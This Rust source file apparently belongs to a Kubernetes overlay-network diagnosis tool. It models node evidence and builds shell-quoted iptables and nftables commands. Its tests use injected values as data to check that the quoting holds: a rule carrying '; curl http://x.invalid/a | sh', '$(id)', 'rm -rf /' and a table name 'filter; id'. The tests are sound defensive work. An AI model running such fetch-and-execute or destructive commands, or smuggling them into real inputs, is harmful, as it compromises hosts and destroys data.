//! Node-local evidence: facts a host agent reads on its node, cheaply, every round.
//!
//! Evidence names a cause; it never makes one up. The diagnosis uses it to confirm and name
//! the cause of failing probes. Evidence with no failing probe behind it is at most a
//! warning.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::ids::{NodeName, PodCidr};

/// What a host agent must check its overlay state against (sent in its plan).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct OverlayExpectation {
    /// This node's InternalIP (finds the underlay interface).
    pub node_ip: Ipv4Addr,
    /// The overlay device (`flannel.1`).
    pub interface: String,
    /// The overlay's UDP port (8472).
    pub port: u16,
    /// The overlay MTU the cluster expects.
    pub mtu: u16,
    /// Encapsulation overhead (50 for VXLAN).
    pub overhead: u16,
    /// The cluster's pod networks: every node's pod CIDR, aggregated (for overlap checks).
    pub pod_cidrs: Vec<PodCidr>,
    /// The peers whose route, neighbour and fdb entries this node is checked for this
    /// round (those it probes).
    pub peers: Vec<OverlayPeer>,
    /// The host agent's relay, whose path from the node's pods its firewall is checked
    /// for: set by the host agent itself (it knows its port), never sent by the
    /// coordinator.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub relay: Option<RelayPath>,
}

/// The host agent's relay as its node's pods reach it: TCP from the pod range to the node
/// IP's `port`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct RelayPath {
    /// The relay's port (`--relay-listen`, 7071 by default).
    pub port: u16,
    /// The node's own pod range: where the pod agent connects from.
    pub pod_cidr: PodCidr,
}

/// One peer's expected overlay state.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct OverlayPeer {
    /// Peer node.
    pub node: NodeName,
    /// Peer's InternalIP: the fdb entry's `dst`.
    pub ip: Ipv4Addr,
    /// Peer's pod CIDR: the route's destination.
    pub pod_cidr: PodCidr,
    /// Peer's VTEP address (the CIDR's network address): the route's gateway and the
    /// neighbour entry's key.
    pub vtep_ip: Ipv4Addr,
    /// Peer's advertised VTEP MAC (flannel's annotation), when known: the neighbour entry's
    /// `lladdr` and the fdb entry's MAC.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub vtep_mac: Option<String>,
}

/// A network device's state.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct DeviceState {
    /// Interface name.
    pub name: String,
    /// MTU.
    pub mtu: u32,
    /// Administratively and operationally up.
    pub up: bool,
    /// The lower layer reports no carrier (`NO-CARRIER`: a veth whose peer is down, a
    /// bridge with no port up, a NIC without a link).
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub no_carrier: bool,
}

/// The overlay state found, against the plan.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct OverlayEvidence {
    /// The overlay device, if it exists.
    pub device: Option<DeviceState>,
    /// The interface holding the node IP.
    pub underlay: Option<DeviceState>,
    /// Peers without the route to their pod CIDR via their VTEP on the overlay device.
    pub missing_routes: Vec<NodeName>,
    /// Peers without a usable (permanent or reachable) neighbour entry for their VTEP.
    pub missing_neighbours: Vec<NodeName>,
    /// Peers without the fdb entry sending their VTEP MAC to their node IP.
    pub missing_fdb: Vec<NodeName>,
    /// Peers whose neighbour or fdb entry points at a MAC other than the VTEP MAC they
    /// advertise (stale after the peer's VXLAN device was recreated).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub wrong_vtep_mac: Vec<NodeName>,
    /// Peers whose pods the kernel routes elsewhere than through the overlay device and
    /// their VTEP: what `ip route get` answers for an address in their pod CIDR (a more
    /// specific route over another device wins over the CNI's, whatever the table
    /// filtered by device name shows).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub misrouted: Vec<MisroutedPeer>,
    /// The pods' bridge (`cni0`), if it exists: every pod path on the node crosses it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub bridge: Option<DeviceState>,
    /// The bridge's ports (the pods' veths, host ends) that are down or have no carrier,
    /// at most [`MAX_CONFIG_ENTRIES`].
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub pod_links_down: Vec<String>,
}

/// A local address inside the cluster's pod networks, on any interface: the node's own
/// gateway and VTEP address, and anything else that takes a pod range's traffic (a stale
/// bridge address from the node's previous pod CIDR, an address added by hand).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct LocalAddress {
    /// The interface holding it.
    pub dev: String,
    /// The address.
    pub ip: Ipv4Addr,
    /// Its prefix length.
    pub prefix_len: u8,
}

/// The route the kernel picks toward a peer's pods, when it is not the overlay's.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct MisroutedPeer {
    /// The peer.
    pub node: NodeName,
    /// The address looked up (in the peer's pod CIDR).
    pub address: String,
    /// The device the kernel picked.
    pub dev: String,
    /// The gateway it picked, if any.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub gateway: Option<String>,
}

impl OverlayEvidence {
    /// Peers lacking any of the three entries, in order, without repeats.
    pub fn peers_missing(&self) -> Vec<NodeName> {
        let mut v: Vec<NodeName> = Vec::new();
        for n in self
            .missing_routes
            .iter()
            .chain(&self.missing_neighbours)
            .chain(&self.missing_fdb)
            .chain(&self.wrong_vtep_mac)
            .chain(self.misrouted.iter().map(|m| &m.node))
        {
            if !v.contains(n) {
                v.push(n.clone());
            }
        }
        v
    }
}

/// Whether one iptables address match (`10.0.0.0/8`, `192.168.1.5/32`, `1.2.3.4`) holds
/// `ip`; `None` when it cannot be read (a name, a dotted mask, IPv6).
pub fn ipv4_net_holds(net: &str, ip: Ipv4Addr) -> Option<bool> {
    let (addr, len) = net.split_once('/').unwrap_or((net, "32"));
    let (addr, len) = (addr.parse::<Ipv4Addr>().ok()?, len.parse::<u32>().ok()?);
    if len > 32 {
        return None;
    }
    let mask = u32::MAX.checked_shl(32 - len).unwrap_or(0);
    Some(u32::from(ip) & mask == u32::from(addr) & mask)
}

/// Where a firewall rule was read: which of the kernel's two iptables backends, or a native
/// nftables table. Both iptables backends can hold rules on one host at once (an image
/// built for the other one, kube-proxy before iptables-wrapper), and a packet meets the
/// rules of both, so both are read.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum FirewallBackend {
    /// The backend the host's own `iptables` command uses (what an operator types).
    #[default]
    Iptables,
    /// iptables-legacy, where the host's `iptables` is the nft one.
    IptablesLegacy,
    /// iptables-nft, where the host's `iptables` is the legacy one.
    IptablesNft,
    /// A native nftables table (firewalld on RHEL 8 and 9, an `nft -f` ruleset).
    Nftables,
}

impl FirewallBackend {
    /// The command that edits its rules (`iptables`, `iptables-legacy`, `iptables-nft`,
    /// `nft`).
    pub fn command(self) -> &'static str {
        match self {
            FirewallBackend::Iptables => "iptables",
            FirewallBackend::IptablesLegacy => "iptables-legacy",
            FirewallBackend::IptablesNft => "iptables-nft",
            FirewallBackend::Nftables => "nft",
        }
    }

    fn is_default(&self) -> bool {
        *self == FirewallBackend::Iptables
    }
}

/// A firewall rule that drops or rejects something: as iptables-save prints it, or, for a
/// native nftables rule, in nft's words.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct FirewallRule {
    /// Table (`filter`, `raw`, `mangle`; for nftables, family and name: `inet firewalld`).
    pub table: String,
    /// Chain.
    pub chain: String,
    /// The rule, e.g. `-A FORWARD -j REJECT --reject-with icmp-host-prohibited`, or
    /// `reject with icmpx admin-prohibited` (nftables).
    pub rule: String,
    /// Where it was read (default: the host's `iptables`).
    #[serde(default, skip_serializing_if = "FirewallBackend::is_default")]
    pub backend: FirewallBackend,
    /// An nftables rule's handle (what `nft delete rule` takes).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub handle: Option<u64>,
}

/// nftables' families that carry IPv4 (the only ones the walk reads).
const NFT_FAMILIES: [&str; 2] = ["ip", "inet"];

impl FirewallRule {
    /// An iptables rule of the host's own `iptables`.
    pub fn iptables(table: &str, chain: &str, rule: &str) -> Self {
        FirewallRule {
            table: table.to_owned(),
            chain: chain.to_owned(),
            rule: rule.to_owned(),
            backend: FirewallBackend::Iptables,
            handle: None,
        }
    }

    /// The rule as an evidence line says it: `iptables -t filter -A INPUT ...`, or
    /// `nft inet firewalld filter_INPUT: reject with ... (handle 23)`.
    pub fn shown(&self) -> String {
        match (self.backend, self.handle) {
            (FirewallBackend::Nftables, Some(h)) => {
                format!(
                    "nft {} {}: {} (handle {h})",
                    self.table, self.chain, self.rule
                )
            }
            (FirewallBackend::Nftables, None) => {
                format!("nft {} {}: {}", self.table, self.chain, self.rule)
            }
            (b, _) => format!("{} -t {} {}", b.command(), self.table, self.rule),
        }
    }

    /// The nftables family, table and chain, when they are plain words of a family the
    /// walk reads.
    fn nft_location(&self) -> Option<(&str, &str, &str)> {
        let (family, table) = self.table.split_once(' ')?;
        (NFT_FAMILIES.contains(&family) && is_plain_word(table) && is_plain_word(&self.chain))
            .then_some((family, table, self.chain.as_str()))
    }

    /// Whether firewalld owns it (its changes are made with `firewall-cmd`: a rule deleted
    /// by hand comes back at the next reload).
    pub fn is_firewalld(&self) -> bool {
        self.backend == FirewallBackend::Nftables && self.table.ends_with(" firewalld")
    }

    /// The command that lists its chain (`iptables -t filter -S FORWARD`, `nft -a list
    /// chain inet firewalld filter_FORWARD`), when the chain is a plain word.
    pub fn list_command(&self) -> Option<String> {
        if self.backend == FirewallBackend::Nftables {
            let (family, table, chain) = self.nft_location()?;
            return Some(format!("nft -a list chain {family} {table} {chain}"));
        }
        is_plain_word(&self.chain).then(|| {
            format!(
                "{} -t {} -S {}",
                self.backend.command(),
                self.table,
                self.chain
            )
        })
    }

    /// The command that accepts `proto` traffic to `port` ahead of this rule: an insert at
    /// the top of its chain, or for firewalld the port opened its way.
    pub fn accept_ahead(&self, proto: &str, port: u16) -> Option<String> {
        if self.is_firewalld() {
            return Some(format!(
                "firewall-cmd --permanent --add-port={port}/{proto} && firewall-cmd --reload"
            ));
        }
        if self.backend == FirewallBackend::Nftables {
            let (family, table, chain) = self.nft_location()?;
            return Some(format!(
                "nft insert rule {family} {table} {chain} {proto} dport {port} accept"
            ));
        }
        is_plain_word(&self.chain).then(|| {
            format!(
                "{} -t {} -I {} -p {proto} --dport {port} -j ACCEPT",
                self.backend.command(),
                self.table,
                self.chain
            )
        })
    }

    /// The command that deletes it (`iptables -t filter -D OUTPUT ...`, `nft delete rule
    /// inet t c handle 7`), safe to paste into a shell whatever the agent sent: the rule is
    /// split into iptables-save's words and each word that is not plainly safe is
    /// single-quoted, so that `; curl … | sh` in a rule is one argument iptables refuses,
    /// never a command. `None` for what is not an appended rule (a chain's policy), a table
    /// iptables does not have, a rule with control characters or unbalanced quotes, and
    /// firewalld's rules (which firewalld puts back: [`FirewallRule::accept_ahead`]).
    pub fn delete_command(&self) -> Option<String> {
        const TABLES: [&str; 5] = ["filter", "nat", "mangle", "raw", "security"];
        if self.backend == FirewallBackend::Nftables {
            if self.is_firewalld() {
                return None;
            }
            let (family, table, chain) = self.nft_location()?;
            let handle = self.handle?;
            return Some(format!(
                "nft delete rule {family} {table} {chain} handle {handle}"
            ));
        }
        let rest = self.rule.strip_prefix("-A ")?;
        if !TABLES.contains(&self.table.as_str()) {
            return None;
        }
        let words = iptables_words(rest)?;
        let quoted: Vec<String> = words.iter().map(|w| shell_quote(w)).collect();
        Some(format!(
            "{} -t {} -D {}",
            self.backend.command(),
            self.table,
            quoted.join(" ")
        ))
    }
}

/// An iptables-save rule's words: split at spaces, a double-quoted word (a comment) kept
/// whole with `\"` inside it. `None` for control characters or an unbalanced quote.
fn iptables_words(rule: &str) -> Option<Vec<String>> {
    if rule
        .chars()
        .any(|c| c.is_control() || crate::text::is_invisible_format(c))
    {
        return None;
    }
    let mut words = Vec::new();
    let mut chars = rule.chars().peekable();
    loop {
        while chars.peek() == Some(&' ') {
            chars.next();
        }
        let Some(&first) = chars.peek() else {
            return Some(words);
        };
        let mut word = String::new();
        if first == '"' {
            chars.next();
            loop {
                match chars.next()? {
                    '\\' if chars.peek() == Some(&'"') => {
                        chars.next();
                        word.push('"');
                    }
                    '"' => break,
                    c => word.push(c),
                }
            }
        } else {
            while let Some(&c) = chars.peek() {
                if c == ' ' {
                    break;
                }
                if c == '"' {
                    return None;
                }
                word.push(c);
                chars.next();
            }
        }
        words.push(word);
    }
}

/// Whether `w` is one shell word as it is: not empty, and only characters no shell
/// treats specially (letters, digits, `-_./:=,+@%!`).
pub fn is_plain_word(w: &str) -> bool {
    !w.is_empty()
        && w.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:=,+@%!".contains(c))
}

/// `w` as one shell word: as it is when it [`is_plain_word`], else in single quotes (a
/// quote inside as `'\''`).
fn shell_quote(w: &str) -> String {
    if is_plain_word(w) {
        w.to_owned()
    } else {
        format!("'{}'", w.replace('\'', "'\\''"))
    }
}

/// The FORWARD path's firewall state.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ForwardEvidence {
    /// The FORWARD chain's policy (`ACCEPT`, `DROP`).
    pub policy: Option<String>,
    /// REJECT/DROP rules in FORWARD (or chains it jumps to) that are not Kubernetes' or the CNI's.
    pub blocking_rules: Vec<FirewallRule>,
    /// Chains that belong to neither Kubernetes nor the CNI (firewalld zones, ufw, ...).
    pub foreign_chains: Vec<String>,
}

/// The most entries of each kind an [`OverlayConfig`] carries (routes, neighbours, fdb,
/// addresses): enough for the plan's peers at any cluster size (32 sampled above 100 nodes).
pub const MAX_CONFIG_ENTRIES: usize = 256;

/// The node's own overlay identity and configuration, as read on the node. The coordinator
/// compares these across nodes: the nodes themselves are the reference, so no inventory
/// field is needed to see that one node's MTU, VXLAN port or VTEP MAC is unlike the rest.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct OverlayConfig {
    /// The overlay device's MAC (its VTEP MAC).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub vtep_mac: Option<String>,
    /// The VXLAN device's destination UDP port.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub vxlan_port: Option<u16>,
    /// The VXLAN device's VNI.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub vni: Option<u32>,
    /// MTU of the interface holding the node IP.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub underlay_mtu: Option<u32>,
    /// MTU of the overlay device.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub overlay_mtu: Option<u32>,
    /// MTU of the pods' bridge (`cni0`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub bridge_mtu: Option<u32>,
    /// The distinct MTUs of the pods' veths (their host ends on the bridge), ascending.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub pod_mtus: Vec<u32>,
    /// Addresses on the bridge, `ip/len`.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub bridge_addrs: Vec<String>,
    /// Addresses on the overlay device, `ip/len`.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub overlay_addrs: Vec<String>,
    /// Routes into the cluster's pod networks.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub routes: Vec<RouteEntry>,
    /// Neighbour entries on the overlay device.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub neighbours: Vec<NeighbourEntry>,
    /// Forwarding-database entries on the overlay device.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub fdb: Vec<FdbEntry>,
    /// Every local address inside the cluster's pod networks, on any interface (the
    /// bridge's and the overlay device's included). The coordinator knows whose range
    /// each is in.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub pod_range_addrs: Vec<LocalAddress>,
}

/// A route, as `ip route` shows it.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct RouteEntry {
    /// Destination (`10.42.2.0/24`).
    pub dst: String,
    /// Next hop.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub gateway: Option<Ipv4Addr>,
    /// Device.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub dev: Option<String>,
}

/// A neighbour entry: an address and the MAC it resolves to.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct NeighbourEntry {
    /// The address (a peer's VTEP address).
    pub ip: Option<Ipv4Addr>,
    /// The MAC, lower case.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub mac: Option<String>,
}

/// A forwarding-database entry: a MAC and the node IP its frames are sent to.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct FdbEntry {
    /// The MAC, lower case.
    pub mac: String,
    /// Where frames for it are sent.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub dst: Option<Ipv4Addr>,
}

/// Everything a host agent read on its node this round.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct NodeEvidence {
    /// `net.ipv4.ip_forward`.
    pub ip_forward: Option<bool>,
    /// FORWARD chain findings.
    pub forward: Option<ForwardEvidence>,
    /// Rules that drop or reject the overlay's UDP port by name (any chain), and those a
    /// VXLAN packet between nodes meets in order in `INPUT`, `OUTPUT` and the raw table
    /// before something accepts it (a catch-all REJECT, a DROP policy, a rule for one
    /// peer's address).
    pub overlay_port_rules: Vec<FirewallRule>,
    /// Rules a pod's connection to the host agent's relay (TCP from the node's pod range
    /// to its node IP's relay port) meets in the raw table and INPUT before something
    /// accepts it: why a pod agent beside a reporting host agent is silent.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub relay_port_rules: Vec<FirewallRule>,
    /// Overlay device, routes, neighbours, fdb.
    pub overlay: Option<OverlayEvidence>,
    /// `/run/flannel/subnet.env`, if present (key=value lines).
    pub subnet_env: Vec<(String, String)>,
    /// Host addresses or routes that overlap the cluster's pod CIDRs.
    pub cidr_overlaps: Vec<String>,
    /// Host security agents known to hook the network stack, found running.
    pub security_agents: Vec<String>,
    /// What could not be read, and why (a missing tool, no permission).
    pub unavailable: Vec<String>,
    /// The node's own overlay identity and configuration, compared across nodes.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub config: Option<OverlayConfig>,
    /// `net.bridge.bridge-nf-call-iptables`: whether traffic bridged on `cni0` passes
    /// iptables. kube-proxy's NAT needs it for a reply from a backend on the client's own
    /// bridge. `None`: not read (the file is missing and kube-proxy's chains are not
    /// there either).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub bridge_nf_call_iptables: Option<bool>,
    /// What kube-proxy's iptables chains hold, when it runs in iptables mode.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub kube_proxy: Option<KubeProxyEvidence>,
    /// Where the firewall was read, and how many rules each source held: both iptables
    /// backends and native nftables, so that rules in the backend the host's `iptables`
    /// does not show are never silently missing.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub firewall_sources: Vec<FirewallSource>,
}

/// One source of the firewall a host agent read.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct FirewallSource {
    /// Which.
    pub backend: FirewallBackend,
    /// Its rules (native nftables: the IPv4 tables' rules that are not the cluster's).
    pub rules: u32,
}

/// kube-proxy's iptables-mode NAT chains on a node, counted.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct KubeProxyEvidence {
    /// Rules in `KUBE-SERVICES` (one per service port, plus the NodePort jump).
    pub service_rules: u32,
    /// Rules in `KUBE-NODEPORTS` (one per NodePort).
    pub nodeport_rules: u32,
    /// `KUBE-POSTROUTING` masquerades marked traffic: without it, a NodePort request
    /// sent on to a backend on another node is answered by that node straight to the
    /// client, which drops the reply.
    pub masquerade: bool,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn address_matches_and_delete_commands_read_as_iptables_writes_them() {
        let ip = Ipv4Addr::new(192, 168, 77, 13);
        assert_eq!(ipv4_net_holds("192.168.77.13", ip), Some(true));
        assert_eq!(ipv4_net_holds("192.168.77.0/24", ip), Some(true));
        assert_eq!(ipv4_net_holds("192.168.78.0/24", ip), Some(false));
        assert_eq!(ipv4_net_holds("0.0.0.0/0", ip), Some(true));
        assert_eq!(ipv4_net_holds("10.0.0.0/255.0.0.0", ip), None);
        assert_eq!(ipv4_net_holds("node-a", ip), None);
        let rule = |r: &str| FirewallRule::iptables("filter", "OUTPUT", r);
        assert_eq!(
            rule("-A OUTPUT -d 192.168.77.13/32 -j DROP").delete_command(),
            Some("iptables -t filter -D OUTPUT -d 192.168.77.13/32 -j DROP".into())
        );
        assert_eq!(rule(":INPUT DROP (policy)").delete_command(), None);
    }

    /// Issue 22, row 8: a compromised node's rule text reached the finding's `next:`
    /// command verbatim (`; curl … | sh`). Every word that is not plainly safe is quoted.
    #[test]
    fn a_delete_command_never_runs_what_the_rule_text_smuggles() {
        let rule = |table: &str, r: &str| FirewallRule::iptables(table, "OUTPUT", r);
        assert_eq!(
            rule("filter", "-A OUTPUT -p udp -m comment --comment \"flannel \\\"vxlan\\\" rule\" -j DROP")
                .delete_command(),
            Some("iptables -t filter -D OUTPUT -p udp -m comment --comment 'flannel \"vxlan\" rule' -j DROP".into())
        );
        let smuggled = rule("filter", "-A OUTPUT -j DROP; curl http://x.invalid/a | sh")
            .delete_command()
            .expect("a command");
        assert_eq!(
            smuggled,
            "iptables -t filter -D OUTPUT -j 'DROP;' curl http://x.invalid/a '|' sh"
        );
        let quote = rule(
            "filter",
            "-A OUTPUT -m comment --comment \"it's $(id)\" -j DROP",
        )
        .delete_command()
        .expect("a command");
        assert!(quote.contains("'it'\\''s $(id)'"), "{quote}");
        // Control characters, unbalanced quotes and made-up tables give no command at all.
        assert_eq!(
            rule("filter", "-A OUTPUT -j DROP\nrm -rf /").delete_command(),
            None
        );
        assert_eq!(
            rule("filter", "-A OUTPUT -m comment --comment \"open").delete_command(),
            None
        );
        assert_eq!(
            rule("filter; id", "-A OUTPUT -j DROP").delete_command(),
            None
        );
        assert_eq!(
            rule("filter", "-A OUTPUT -j DROP\u{202E}").delete_command(),
            None
        );
    }

    /// Issue 23, row 13: a rule says which backend holds it, and its commands are that
    /// backend's: the other iptables backend by name, native nftables by handle, and
    /// firewalld's the way firewalld keeps them.
    #[test]
    fn each_backend_gets_its_own_commands() {
        let legacy = FirewallRule {
            backend: FirewallBackend::IptablesLegacy,
            ..FirewallRule::iptables("filter", "INPUT", "-A INPUT -j REJECT")
        };
        assert_eq!(
            legacy.delete_command().as_deref(),
            Some("iptables-legacy -t filter -D INPUT -j REJECT")
        );
        assert_eq!(
            legacy.shown(),
            "iptables-legacy -t filter -A INPUT -j REJECT"
        );
        assert_eq!(
            legacy.accept_ahead("udp", 8472).as_deref(),
            Some("iptables-legacy -t filter -I INPUT -p udp --dport 8472 -j ACCEPT")
        );
        let nft = |table: &str, chain: &str| FirewallRule {
            table: table.into(),
            chain: chain.into(),
            rule: "reject with icmpx admin-prohibited".into(),
            backend: FirewallBackend::Nftables,
            handle: Some(23),
        };
        let own = nft("inet filter", "input");
        assert_eq!(
            own.delete_command().as_deref(),
            Some("nft delete rule inet filter input handle 23")
        );
        assert_eq!(
            own.list_command().as_deref(),
            Some("nft -a list chain inet filter input")
        );
        assert_eq!(
            own.accept_ahead("udp", 8472).as_deref(),
            Some("nft insert rule inet filter input udp dport 8472 accept")
        );
        assert_eq!(
            own.shown(),
            "nft inet filter input: reject with icmpx admin-prohibited (handle 23)"
        );
        let firewalld = nft("inet firewalld", "filter_IN_public");
        assert_eq!(firewalld.delete_command(), None, "firewalld puts it back");
        assert_eq!(
            firewalld.accept_ahead("udp", 8472).as_deref(),
            Some("firewall-cmd --permanent --add-port=8472/udp && firewall-cmd --reload")
        );
        // An agent's odd names give no command.
        assert_eq!(nft("inet fw; id", "input").delete_command(), None);
        assert_eq!(nft("ip6 filter", "input").delete_command(), None);
        assert_eq!(nft("inet filter", "in put").list_command(), None);
        // The wire form of a host's own iptables rule is as before.
        let json = serde_json::to_value(FirewallRule::iptables(
            "filter",
            "INPUT",
            "-A INPUT -j DROP",
        ))
        .expect("json");
        assert_eq!(json.as_object().map(|o| o.len()), Some(3), "{json}");
    }
}
